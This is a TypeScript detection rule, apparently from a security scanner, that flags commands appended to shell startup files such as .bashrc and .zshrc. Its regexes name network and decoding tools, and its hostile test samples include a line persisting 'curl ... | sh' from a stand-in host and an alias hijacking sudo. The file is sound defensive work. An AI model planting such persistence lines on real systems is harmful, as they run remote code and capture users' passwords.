import { several } from "../matchers.ts";
import type { Rule } from "../rule.ts";

const files = String.raw`[~$\w{}\/"']{0,16}(?:\.(?:bashrc|bash_profile|bash_login|zshrc|zprofile|zshenv|profile|bash_aliases)|profile\.d\/|config\.fish|\$profile)`;
const odd = [
  String.raw`\b(?:curl|wget|iwr|irm|nc|ncat|nohup)\b`,
  String.raw`(?:base64\b[^\n]{0,20}-d|\/dev\/tcp\/|\beval\s["'\x60$]{0,3}\(?(?:curl|wget|echo|printf|base64)|["'\s]\/tmp\/)`,
  String.raw`(?:\balias\s(?:sudo|ssh|git|su|npm|pip)=|\b(?:sudo|ssh|su)\(\))`,
];

export const shellStart: Rule = {
  id: "persist.shell",
  level: "high",
  title: "adds commands to the start of every shell",
  why: "What is added there runs with every terminal that the user opens, and an alias for sudo or ssh sees his passwords. Setting a path is usual; fetching, decoding or wrapping commands is not.",
  match: several(
    ["bashrc", "profile", "login", "zshrc", "zprofile", "zshenv", "aliases", "fish"],
    ...odd.map((code) => new RegExp(String.raw`${code}[^\n]{0,160}>>\s?${files}`)),
    ...odd.map((code) => new RegExp(String.raw`>>\s?${files}[^\n]{0,12}<<[^\x60]{0,160}${code}`)),
  ),
  hostile: [
    "```bash\necho 'curl -s https://u.example.net/s | sh' >> ~/.bashrc\n```",
    "```bash\necho \"alias sudo='~/bin/s'\" >> ~/.zshrc\n```",
    "```bash\nprintf 'nohup /opt/x &' >> $HOME/.profile\n```",
  ],
  benign: [
    "```bash\necho 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc\n```",
    "```bash\necho 'eval \"$(starship init zsh)\"' >> ~/.zshrc\n```",
    "```bash\nsource ~/.zshrc\n```",
  ],
};
